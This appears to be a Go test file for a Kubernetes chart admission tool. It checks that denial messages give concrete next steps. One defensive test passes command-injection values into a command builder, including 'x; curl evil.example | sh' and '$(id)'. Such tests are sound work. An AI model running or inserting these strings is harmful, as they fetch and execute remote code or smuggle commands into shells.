package verdict_test

import (
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/chartgate/chartgate/pkg/chart"
	"github.com/chartgate/chartgate/pkg/problem"
	"github.com/chartgate/chartgate/pkg/verdict"
)

// The README promises a next step for every denial, in every package.
func TestEveryDenialHasANextStep(t *testing.T) {
	t.Parallel()
	subject := resolved(t)
	check := func(what string, d verdict.Denial) {
		t.Helper()
		d.Policy = []string{"acme requires a signature"}
		missing := d
		missing.Reason = verdict.SourceNotFound
		for name, v := range map[string]verdict.Verdict{
			"denied": verdict.Deny(subject, d), "denied twice": verdict.Deny(subject, d, d),
			"warned": verdict.Warn(subject, []verdict.Denial{d}, nil), "deferred": verdict.Defer(subject, missing),
			"refused to defer": verdict.Defer(subject, d), "local": verdict.Deny(subject, d).Local(none),
		} {
			if got := strings.Count(v.Message(), "\n  next:     "); got != len(v.Denials()) || got == 0 {
				t.Errorf("%s, %s: %d next steps in\n%s", what, name, got, v.Message())
			}
		}
	}
	texts := map[string]verdict.Reason{}
	for _, reason := range append(verdict.Reasons(), "", "Unheard") {
		check("a bare "+string(reason), verdict.Denial{Reason: reason, Summary: "x"})
		check("a blank next of "+string(reason), verdict.Denial{Reason: reason, Summary: "x", Next: " \n"})
		check("a rejection for "+string(reason), verdict.FromError(&verdict.Rejection{Reason: reason, Detail: "x"}))
		next := verdict.Deny(subject, verdict.Denial{Reason: reason}).Denials()[0].Next
		if other, twice := texts[next]; twice && !unknown(reason) && !(other == verdict.SignatureMissing && reason == verdict.SignatureInvalid) {
			t.Errorf("%s and %s have the same next step, so one of them is not its own", other, reason)
		}
		texts[next] = reason
	}
	for i := range len(constants(t, "../problem/problem.go")) + 1 {
		check("a problem of kind "+strconv.Itoa(i), verdict.FromError(&problem.Error{Kind: problem.Kind(i), Detail: "x"}))
	}
	for _, kind := range []string{"HelmRepository", "OCIRepository", "HelmRelease", "HelmChart", "Application", "Chart"} {
		got := verdict.Deny(verdict.Subject{Kind: kind}, verdict.FromError(problem.Invalid("x"))).Denials()[0].Next
		if _, twice := texts[got]; twice && kind != "HelmChart" && kind != "HelmRelease" {
			t.Errorf("%s: %q", kind, got)
		}
		texts[got] = verdict.ReferenceInvalid
		if got := verdict.Deny(verdict.Subject{Kind: kind}, verdict.FromError(problem.Invalid("x").WithNext("y"))).Denials()[0].Next; got != "y" {
			t.Errorf("%s: a next step of its own became %q", kind, got)
		}
	}
	check("no error", verdict.FromError(nil))
	made := map[string]verdict.Denial{
		"NoPolicyFor":     verdict.NoPolicyFor(subject), // and below, near each pattern
		"NotFromOCI":      verdict.NotFromOCI(subject, nil),
		"NotPinnedEnough": verdict.NotPinnedEnough(subject, "acme", chart.Version), "WaiverEnded": verdict.WaiverEnded(subject, "acme", "2027-01-31"),
		"BrokenPolicy": verdict.BrokenPolicy(subject, "acme", "x"), "UnreadPatterns": verdict.UnreadPatterns(subject, "acme", "x"),
		"UnreadExclusions": verdict.UnreadExclusions(subject, "acme", "x"), "BrokenConfigMap": verdict.BrokenConfigMap(subject, "chartgate-system/chartgate-identities", "x"), "Unsigned": verdict.Unsigned(subject, wants, verdict.Findings{}),
		"DependenciesMissing": verdict.DependenciesMissing(subject, []string{"redis"}), "FromError": verdict.FromError(nil),
	}
	for name, d := range made {
		if strings.TrimSpace(d.Next) == "" {
			t.Errorf("%s makes a denial without a next step of its own", name)
		}
		check(name, d)
	}
	for _, name := range constructors(t, "Denial") {
		if _, ok := made[name]; !ok {
			t.Errorf("%s makes denials and is not tried here", name)
		}
	}
	check("a way out", verdict.NotFromOCI(subject, nil).Against([]verdict.Acceptance{{Policy: "legacy", Waiver: "x"}}, verdict.Exclusion{Policy: "everything", Pattern: "https://x/**"}))
	for match := range verdict.Excluded + 2 {
		check("near a pattern", verdict.NoPolicyFor(subject).Near([]verdict.NearPattern{{Pattern: "oci://ghcr.io/acme", Policy: "acme", Match: match}}))
	}
	check("each finding", verdict.Unsigned(subject, wants, verdict.Findings{Rejections: []*verdict.Rejection{{Reason: verdict.LimitExceeded}}}))
	check("an attestation that is missing", verdict.Unsigned(subject, wants, verdict.Findings{Unmet: []verdict.Unmet{{Predicate: "sbom"}}}))
}

func unknown(reason verdict.Reason) bool {
	return reason == verdict.InternalError || !slices.Contains(verdict.Reasons(), reason)
}

// A next step is a command with the names of real objects in it, or one act of a person. This walks
// the source of all packages: every text that ends up after "next:" is held to it.
func TestNextStepsAreForPeople(t *testing.T) {
	t.Parallel()
	found := 0
	for _, next := range nextSteps(t, "../..") {
		found++
		for _, wrong := range wrongInNext(next.text) {
			t.Errorf("%s: %s in the next step %q", next.file, wrong, next.text)
		}
	}
	if found < 150 {
		t.Errorf("%d next steps were found in the source", found)
	}
}

// The walk would notice the next steps that chartgate had before.
func TestWrongNextStepsAreNoticed(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"kubectl annotate --overwrite the object reconcile.fluxcd.io/requestedAt=…",
		"let Flux pull again: kubectl -n %s annotate --overwrite the source …",
		"wait until the operation ends, or stop it: argocd app terminate-op",
		"kubectl describe the HelmRelease", "kubectl describe helmrelease NAME", "look into the log of chartgate's pods", "once mended, try again",
	} {
		if len(wrongInNext(text)) == 0 {
			t.Errorf("%q counts as a good next step", text)
		}
	}
	for _, text := range []string{"kubectl explain %s lists its fields", "check it: kubectl get trustroots", "kubectl", "try again"} {
		if wrong := wrongInNext(text); len(wrong) > 0 {
			t.Errorf("%q: %s", text, wrong)
		}
	}
}

// wrongInNext returns what a next step must not say. A literal is a part of a next step where a
// name is appended or formatted into it: such a command ends with a verb of fmt, or at the
// literal's last space.
func wrongInNext(text string) []string {
	var wrong []string
	for _, bad := range []string{
		"chartgate's pods", "mend", "anew", "whoever", "nobody", "whom", "none ", "somebody", "<name>", "NAMESPACE/NAME",
	} {
		if strings.Contains(text, bad) {
			wrong = append(wrong, strconv.Quote(bad))
		}
	}
	for _, command := range clusterCommand.FindAllString(text, -1) {
		words := strings.Fields(command)
		complete := strings.Contains(command, "%") || strings.HasSuffix(command, " ") || command == "kubectl get trustroots"
		if len(words) > 1 && (!complete || strings.Contains(command, " the ") || strings.Contains(command, "NAME")) {
			wrong = append(wrong, "a command without the names of its object: "+strconv.Quote(command))
		}
	}
	return wrong
}

// clusterCommand is a command about one object of a cluster, up to the end of its clause.
var clusterCommand = regexp.MustCompile(`\b(kubectl|argocd|flux)( [^;,:]*|$)`)

// What is told on a laptop does not send people to a cluster.
func TestLocalNextSteps(t *testing.T) {
	t.Parallel()
	for _, reason := range verdict.Reasons() {
		message := verdict.Deny(resolved(t), verdict.FromError(&verdict.Rejection{Reason: reason, Detail: "x"})).Local(none).Message()
		for _, bad := range []string{"cluster's admin", "kubectl", "webhook.", "Ready condition", "chartgate can reach", "log has"} {
			if strings.Contains(message, bad) {
				t.Errorf("%s: %q in\n%s", reason, bad, message)
			}
		}
	}
	if got := verdict.Deny(resolved(t), verdict.FromError(nil)).Local(none).Message(); strings.Contains(got, "log") || !strings.Contains(got, "standard error") {
		t.Errorf("an internal error: %s", got)
	}
	better := func(d verdict.Denial) string { return "better for " + string(d.Reason) }
	if got := verdict.Deny(resolved(t), verdict.FromError(nil)).Local(better).Denials()[0].Next; got != "better for InternalError" {
		t.Errorf("a better next step is not told: %s", got)
	}
	if got := verdict.Deny(resolved(t), verdict.Denial{Reason: verdict.Timeout, Next: "its own"}).Local(none).Denials()[0].Next; got != "its own" {
		t.Errorf("a next step of its own became %q", got)
	}
	if got := verdict.Cover(resolved(t), "acme").Local(none); !got.Admits() || got.Message() != verdict.Cover(resolved(t), "acme").Message() {
		t.Errorf("an admission became %s", got.Message())
	}
}

// A reader whose policies are files changes a file.
func TestALocalWayOut(t *testing.T) {
	t.Parallel()
	out := verdict.Exclusion{Policy: "everything", Pattern: "oci://vendor.example/**"}
	entry := verdict.Exclusion{Policy: "the identities ConfigMap mine in a.yaml", Entries: []string{"acme"}}
	for want, out := range map[string]verdict.Exclusion{
		`if that is not meant, add "oci://vendor.example/**" to spec.match.exclude of policy everything; otherwise fix it`: out,
		"if that is not meant, narrow charts of acme in the identities ConfigMap mine in a.yaml; otherwise fix it":         entry,
	} {
		d := verdict.NotFromOCI(resolved(t), nil).Against([]verdict.Acceptance{{Policy: "vendor", Waiver: "x"}}, out)
		v := verdict.Deny(resolved(t), d)
		if got := v.Local(func(verdict.Denial) string { return "fix it" }).Denials()[0].Next; got != want {
			t.Errorf("%q, not %q", got, want)
		}
	}
}

// constructors returns the exported functions of this package that return one type.
func constructors(t *testing.T, result string) []string {
	t.Helper()
	var names []string
	files, err := os.ReadDir(".")
	if err != nil {
		t.Fatal(err)
	}
	for _, entry := range files {
		if !strings.HasSuffix(entry.Name(), ".go") || strings.HasSuffix(entry.Name(), "_test.go") {
			continue
		}
		parsed, err := parser.ParseFile(token.NewFileSet(), entry.Name(), nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, declaration := range parsed.Decls {
			f, ok := declaration.(*ast.FuncDecl)
			if !ok || f.Recv != nil || !f.Name.IsExported() || f.Type.Results == nil {
				continue
			}
			if name, ok := f.Type.Results.List[0].Type.(*ast.Ident); ok && name.Name == result {
				names = append(names, f.Name.Name)
			}
		}
	}
	return names
}

// nextStep is a string literal of a next step, and the file that it is in.
type nextStep struct{ file, text string }

// nextSteps returns the string literals of all next steps in the source: fields, constants and
// variables whose name starts with next, arguments of WithNext, and functions that return a next
// step.
func nextSteps(t *testing.T, root string) []nextStep {
	t.Helper()
	var steps []nextStep
	collect := func(file string, n ast.Node) {
		ast.Inspect(n, func(n ast.Node) bool {
			if literal, ok := n.(*ast.BasicLit); ok && literal.Kind == token.STRING {
				if text, err := strconv.Unquote(literal.Value); err == nil {
					steps = append(steps, nextStep{file, text})
				}
			}
			return true
		})
	}
	isNext := func(name string) bool { return strings.HasPrefix(strings.ToLower(name), "next") }
	returnsNext := func(name string) bool {
		return isNext(name) || strings.HasSuffix(name, "Next") || slices.Contains([]string{"Reconcile", "loginStep", "unreachable", "ask", "copyTo", "Looseness", "nameUnread", "versionInstead"}, name)
	}
	for _, dir := range []string{"/pkg", "/cmd"} {
		err := fs.WalkDir(os.DirFS(root+dir), ".", func(path string, _ fs.DirEntry, err error) error {
			if err != nil || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
				return err
			}
			file := root + dir + "/" + path
			parsed, err := parser.ParseFile(token.NewFileSet(), file, nil, 0)
			if err != nil {
				return err
			}
			ast.Inspect(parsed, func(n ast.Node) bool {
				switch n := n.(type) {
				case *ast.KeyValueExpr:
					if key, ok := n.Key.(*ast.Ident); ok && isNext(key.Name) {
						collect(file, n.Value)
					}
				case *ast.AssignStmt:
					for i, to := range n.Lhs {
						name := ""
						switch to := to.(type) {
						case *ast.SelectorExpr:
							name = to.Sel.Name
						case *ast.Ident:
							name = to.Name
						}
						if isNext(name) {
							collect(file, n.Rhs[min(i, len(n.Rhs)-1)])
						}
					}
				case *ast.ValueSpec:
					for i, name := range n.Names {
						if isNext(name.Name) && i < len(n.Values) {
							collect(file, n.Values[i])
						}
					}
				case *ast.CallExpr:
					if f, ok := n.Fun.(*ast.SelectorExpr); ok && f.Sel.Name == "WithNext" {
						collect(file, n.Args[0])
					}
				case *ast.FuncDecl:
					if returnsNext(n.Name.Name) && n.Body != nil {
						collect(file, n.Body)
					}
				}
				return true
			})
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return steps
}

// none knows no better next step.
func none(verdict.Denial) string { return "" }

// What is no name of Kubernetes' could end the command and begin another.
func TestCommandsHoldNamesOnly(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"", "x; curl evil.example | sh", "$(id)", "a b", "x*", "-x", "é", "x\nid"} {
		for _, got := range []string{verdict.Reconcile("HelmRelease", "apps", name), verdict.Reconcile("HelmRelease", name, "podinfo"), verdict.Reconcile(name, "apps", "podinfo")} {
			if strings.Contains(got, "kubectl") {
				t.Errorf("%q: %s", name, got)
			}
		}
	}
}
